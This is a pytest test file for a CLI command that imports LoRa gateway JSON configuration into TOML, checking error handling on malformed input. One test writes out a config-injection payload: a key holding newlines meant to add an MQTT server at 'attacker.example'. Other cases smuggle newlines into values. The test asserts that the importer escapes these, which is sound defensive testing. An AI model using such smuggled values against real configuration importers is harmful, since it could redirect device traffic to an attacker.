"""``config import-global-conf`` on malformed files: one line, exit 2, nothing injected."""

from __future__ import annotations

import copy
import json
import tomllib
from pathlib import Path
from typing import Any

import pytest

from edge_agent.cli import main
from edge_agent.cmd_config import convert, load_global_conf
from edge_agent.config import parse_config
from tests.hw.test_global_conf import GLOBAL_CONF

BASE: dict[str, Any] = load_global_conf(GLOBAL_CONF)


def _with(path: str, value: Any) -> str:
    """BASE with the value at dotted ``path`` replaced (``None`` key parts create objects)."""
    conf = copy.deepcopy(BASE)
    *parents, last = path.split(".")
    node = conf
    for part in parents:
        node = node[part]
    node[last] = value
    return json.dumps(conf)


MALFORMED = [
    ("{", "not valid JSON"),
    ("", "not valid JSON"),
    ("[1, 2]", "no SX130x_conf object"),
    ('{"gateway_conf": {}}', "no SX130x_conf object"),
    ('"SX130x_conf"', "no SX130x_conf object"),
    ("[" * 100_000 + "]" * 100_000, "not valid JSON"),
    ('{"SX130x_conf": []}', "SX130x_conf: must be an object, got an array"),
    ('{"SX130x_conf": {}, "gateway_conf": 3}', "gateway_conf: must be an object, got a number"),
    (_with("SX130x_conf.radio_0", []), "SX130x_conf.radio_0: must be an object, got an array"),
    (_with("SX130x_conf.radio_0.freq", "868"), "SX130x_conf.radio_0.freq: must be an integer"),
    (_with("SX130x_conf.radio_0.freq", 1.5), "SX130x_conf.radio_0.freq: must be an integer"),
    (_with("SX130x_conf.radio_0.freq", None), "SX130x_conf.radio_0.freq: must be an integer"),
    (_with("SX130x_conf.radio_0.freq", 10**30), "SX130x_conf.radio_0.freq: must be an integer"),
    (_with("SX130x_conf.radio_0.enable", "yes"), "SX130x_conf.radio_0.enable: must be a boolean"),
    (_with("SX130x_conf.radio_0.rssi_offset", "x"), "radio_0.rssi_offset: must be a number"),
    (_with("SX130x_conf.radio_0.rssi_tcomp", 5), "radio_0.rssi_tcomp: must be an object"),
    (
        _with("SX130x_conf.radio_0.rssi_tcomp", {"coeff_a": "1"}),
        "radio_0.rssi_tcomp.coeff_a: must be a number",
    ),
    (_with("SX130x_conf.radio_0.tx_gain_lut", {}), "radio_0.tx_gain_lut: must be an array"),
    (_with("SX130x_conf.radio_0.tx_gain_lut", [3]), "radio_0.tx_gain_lut[0]: must be an object"),
    (
        _with("SX130x_conf.radio_0.tx_gain_lut", [{"rf_power": "x"}]),
        "radio_0.tx_gain_lut[0].rf_power: must be an integer",
    ),
    (_with("SX130x_conf.radio_0.type", 1250), "SX130x_conf.radio_0.type: must be a string"),
    (_with("SX130x_conf.chan_multiSF_3", "on"), "SX130x_conf.chan_multiSF_3: must be an object"),
    (_with("SX130x_conf.chan_multiSF_3.if", "0"), "chan_multiSF_3.if: must be an integer"),
    (_with("SX130x_conf.chan_Lora_std", [1]), "SX130x_conf.chan_Lora_std: must be an object"),
    (_with("SX130x_conf.chan_FSK.datarate", True), "chan_FSK.datarate: must be an integer"),
    (
        _with("SX130x_conf.chan_multiSF_All.spreading_factor_enable", "7"),
        "spreading_factor_enable: must be an array",
    ),
    (
        _with("SX130x_conf.chan_multiSF_All.spreading_factor_enable", ["7"]),
        "spreading_factor_enable[0]: must be an integer",
    ),
    (_with("SX130x_conf.com_type", 1), "SX130x_conf.com_type: must be a string"),
    (_with("SX130x_conf.antenna_gain", "0"), "SX130x_conf.antenna_gain: must be a number"),
    (_with("SX130x_conf.fine_timestamp", True), "SX130x_conf.fine_timestamp: must be an object"),
    (_with("gateway_conf.gateway_ID", 5), "gateway_conf.gateway_ID: must be a string"),
    (_with("gateway_conf.ref_latitude", "52"), "gateway_conf.ref_latitude: must be a number"),
    (
        _with("gateway_conf.forward_crc_error", 1),
        "gateway_conf.forward_crc_error: must be a boolean",
    ),
    (_with("gateway_conf.gps_tty_path", ["x"]), "gateway_conf.gps_tty_path: must be a string"),
    # JSON accepts NaN and Infinity; the configuration does not
    (GLOBAL_CONF.replace('"ref_altitude": 35', '"ref_altitude": NaN'), "must be a finite number"),
    (GLOBAL_CONF.replace('"ref_latitude": 52.5', '"ref_latitude": Infinity'), "finite number"),
    # values of the right JSON type that the configuration refuses: named by their config key
    (_with("gateway_conf.gateway_ID", "AA55"), "gateway.id: must be 16 hexadecimal characters"),
    (_with("gateway_conf.ref_latitude", 91), "gateway.latitude: must be between -90 and 90"),
    (_with("SX130x_conf.radio_0.freq", 5), "concentrator.radio_0.freq_hz: must be between"),
    (_with("SX130x_conf.chan_multiSF_3.radio", 2), "concentrator.channels.multi_sf[3].radio"),
    (_with("gateway_conf.gps_tty_path", "/dev/tty\nS0"), "gps.tty: must not contain control"),
    (_with("SX130x_conf.radio_1.type", "SX1250\n[mqtt]"), "radio_1.type: must not contain control"),
]


@pytest.mark.parametrize(("text", "message"), MALFORMED, ids=range(len(MALFORMED)))
def test_malformed_global_conf_is_one_line_and_exit_2(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], text: str, message: str
) -> None:
    source = tmp_path / "global_conf.json"
    source.write_text(text)
    assert main(["config", "import-global-conf", str(source)]) == 2
    out, err = capsys.readouterr()
    assert out == ""
    assert err.count("\n") == 1 and err.startswith(f"edge-agent config: cannot import {source}: ")
    assert message in err


def test_there_are_at_least_20_malformed_files() -> None:
    assert len(MALFORMED) >= 20


def test_a_key_holding_a_newline_cannot_inject_toml() -> None:
    conf = copy.deepcopy(BASE)
    evil = 'x\n[mqtt]\nserver = "tcp://attacker.example:1883"\n#'
    conf["SX130x_conf"][evil] = 1
    conf["gateway_conf"][evil] = 1
    output = convert(conf)
    assert "attacker" not in tomllib.loads(output).get("mqtt", {}).get("server", "")
    assert all(
        line == "" or line.startswith(("#", "[")) or " = " in line for line in output.split("\n")
    )
    cfg = parse_config(output)
    assert cfg.mqtt is not None and cfg.mqtt.server == "tcp://127.0.0.1:1883"
    assert "\\n[mqtt]" in output  # listed, escaped, inside a comment


def test_many_unknown_keys_are_listed_shortened(tmp_path: Path) -> None:
    conf = copy.deepcopy(BASE)
    for i in range(500):
        conf["SX130x_conf"][f"k{i:03d}" + "y" * 200] = i
    output = convert(conf)
    comment = next(line for line in output.split("\n") if line.startswith("# not imported"))
    assert comment.count('"') == 80 and comment.endswith(" more") and len(comment) < 4000


def test_the_reference_file_still_imports(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    source = tmp_path / "global_conf.json"
    source.write_text(GLOBAL_CONF)
    assert main(["config", "import-global-conf", str(source)]) == 0
    assert parse_config(capsys.readouterr().out).gateway.id == "aa555a0000000000"
